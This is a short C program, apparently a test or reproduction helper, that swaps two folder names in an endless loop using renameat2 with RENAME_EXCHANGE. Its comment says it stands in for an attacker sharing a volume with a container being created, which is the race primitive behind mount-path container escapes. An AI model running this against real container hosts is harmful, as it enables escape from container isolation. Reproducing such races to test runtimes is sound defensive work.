/*
 * Exchanges two names of a folder without a pause until it is killed: an attacker who shares a
 * volume with a container that is being created.
 *
 *   swap A B
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: swap A B\n");
        return 2;
    }
    printf("swapping\n");
    fflush(stdout);
    for (;;) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
            fprintf(stderr, "swap: %s\n", strerror(errno));
            return 1;
        }
    }
}
